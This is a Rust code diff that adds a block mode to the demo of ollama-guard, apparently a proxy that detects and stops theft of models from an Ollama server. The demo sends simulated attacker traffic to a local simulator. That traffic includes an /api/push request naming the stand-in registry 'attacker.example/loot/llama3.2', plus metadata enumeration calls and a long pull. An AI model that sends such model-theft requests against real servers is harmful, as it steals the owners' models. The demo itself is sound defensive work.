@@ -50,6 +50,11 @@ severity_high = 50
 severity_medium = 30
 "#;
 
+/// In block mode the enumeration rule bans (the default built-ins keep latency rules log-only).
+const DEMO_BLOCK: &str = r#"
+action = "block"
+"#;
+
 /// Why the demo failed.
 #[derive(Debug, thiserror::Error)]
 enum DemoError {
@@ -115,7 +120,7 @@ async fn normal_traffic(proxy: &str) -> Result<(), DemoError> {
     Ok(())
 }
 
-async fn attack(proxy: &str) -> Result<(), DemoError> {
+async fn attack(proxy: &str, block: bool) -> Result<(), DemoError> {
     let c = client_from([127, 0, 0, 66]);
     say("127.0.0.66 starts copying model metadata: 30 slow /api/show and /api/tags calls");
     for batch in 0..3 {
@@ -137,7 +142,14 @@ async fn attack(proxy: &str) -> Result<(), DemoError> {
             }));
         }
         for h in calls {
-            h.await.map_err(|e| DemoError::Request(e.to_string()))??;
+            // In block mode the attacker's calls running when it is banned are cut: an error
+            // here is that cut, not a failure of the demo.
+            let cut = h.await.map_err(|e| DemoError::Request(e.to_string()))?;
+            if let Err(e) = cut {
+                if !block {
+                    return Err(e);
+                }
+            }
         }
     }
     Ok(())
@@ -170,8 +182,44 @@ async fn metrics_excerpt(admin: &str) -> Result<String, DemoError> {
     Ok(text.lines().filter(keep).collect::<Vec<_>>().join("\n"))
 }
 
+/// Block mode's extra act: a foreign push is refused before a byte leaves, and the attacker's
+/// long transfer, started before its ban, is cut when the enumeration rule bans it.
+async fn prevention(proxy: &str) -> Result<tokio::task::JoinHandle<String>, DemoError> {
+    let c = client_from([127, 0, 0, 66]);
+    say("127.0.0.66 tries to push llama3.2 to its own registry (model theft by push)");
+    let status = call(
+        &c,
+        "POST",
+        format!("{proxy}/api/push"),
+        r#"{"model":"attacker.example/loot/llama3.2"}"#,
+        0,
+    )
+    .await?;
+    say(&format!(
+        "  -> {status}: refused by policy.registry_push before anything reached Ollama"
+    ));
+    say("127.0.0.66 starts a long (20 s) pull in the background, then enumerates metadata");
+    let url = format!("{proxy}/api/pull");
+    Ok(tokio::spawn(async move {
+        let req = Request::post(url)
+            .header("x-sim-transfer-ms", "20000")
+            .body(Full::new(Bytes::from_static(br#"{"model":"llama3.2"}"#)));
+        let Ok(req) = req else {
+            return "not sent".to_owned();
+        };
+        let started = std::time::Instant::now();
+        match c.request(req).await {
+            Ok(resp) => match resp.into_body().collect().await {
+                Ok(_) => format!("completed after {:.1}s", started.elapsed().as_secs_f64()),
+                Err(_) => format!("cut after {:.1}s", started.elapsed().as_secs_f64()),
+            },
+            Err(e) => format!("failed: {e}"),
+        }
+    }))
+}
+
 /// Runs the demo; returns when the story is told and everything has shut down.
-async fn run() -> Result<(), DemoError> {
+async fn run(block: bool) -> Result<(), DemoError> {
     let sim = ollama_sim::spawn(
         TcpListener::bind("127.0.0.1:0").await?,
         SimConfig::default(),
@@ -183,10 +231,15 @@ async fn run() -> Result<(), DemoError> {
         admin_listen: Some("127.0.0.1:0".into()),
         detection_log: Some("-".into()),
         log_level: Some("warn".into()),
+        mode: Some(if block { "block" } else { "monitor" }.into()),
         ..ServeArgs::default()
     };
-    let file: FileConfig =
-        toml::from_str(DEMO_RULES).map_err(|e| DemoError::Request(e.to_string()))?;
+    let rules = if block {
+        format!("{DEMO_RULES}{DEMO_BLOCK}")
+    } else {
+        DEMO_RULES.to_owned()
+    };
+    let file: FileConfig = toml::from_str(&rules).map_err(|e| DemoError::Request(e.to_string()))?;
     let config = Config::merge(&args, file)?;
     let server = Server::start(
         config,
@@ -197,13 +250,25 @@ async fn run() -> Result<(), DemoError> {
     let proxy = format!("http://{}", server.proxy_addr);
     let admin = format!("http://{}", server.admin_addr);
     say(&format!(
-        "simulated Ollama on {}, ollama-guard on {proxy} (monitor mode), admin on {admin}",
-        sim.url()
+        "simulated Ollama on {}, ollama-guard on {proxy} ({} mode), admin on {admin}",
+        sim.url(),
+        if block { "block" } else { "monitor" }
     ));
     say("rules scaled for the demo: model_exfiltration = latency > 500ms in 10s windows; metadata_enumeration = 20+ metadata calls per source in 15s");
     say("detection log lines (stdout) follow as they are written:");
     normal_traffic(&proxy).await?;
-    attack(&proxy).await?;
+    let transfer = if block {
+        Some(prevention(&proxy).await?)
+    } else {
+        None
+    };
+    attack(&proxy, block).await?;
+    if let Some(t) = transfer {
+        let outcome = t.await.map_err(|e| DemoError::Request(e.to_string()))?;
+        say(&format!(
+            "127.0.0.66's background pull: {outcome} (its source was banned by a rule above; the ban cut it)"
+        ));
+    }
     normal_traffic(&proxy).await?;
     // The window closes at the next multiple of 10 s; the ticker writes its summary within
     // the close grace plus one tick after that.
@@ -217,14 +282,18 @@ async fn run() -> Result<(), DemoError> {
     say("shutting down; open sliding windows are closed with their summaries");
     server.shutdown().await;
     sim.shutdown().await;
-    say("done: no response was changed (monitor mode); run with --mode block in production to ban");
+    if block {
+        say("done: the push was refused, 127.0.0.66 banned and its transfer cut; 127.0.0.1 was never touched");
+    } else {
+        say("done: no response was changed (monitor mode); `demo --mode block` shows prevention");
+    }
     Ok(())
 }
 
 /// `ollama-guard demo`: exit 0 when the story has been told, 1 if anything failed.
-pub(crate) fn main() -> ExitCode {
+pub(crate) fn main(block: bool) -> ExitCode {
     init_tracing("warn");
-    let result = runtime().and_then(|rt| Ok(rt.block_on(run())?));
+    let result = runtime().and_then(|rt| Ok(rt.block_on(run(block))?));
     match result {
         Ok(()) => ExitCode::SUCCESS,
         Err(e) => {
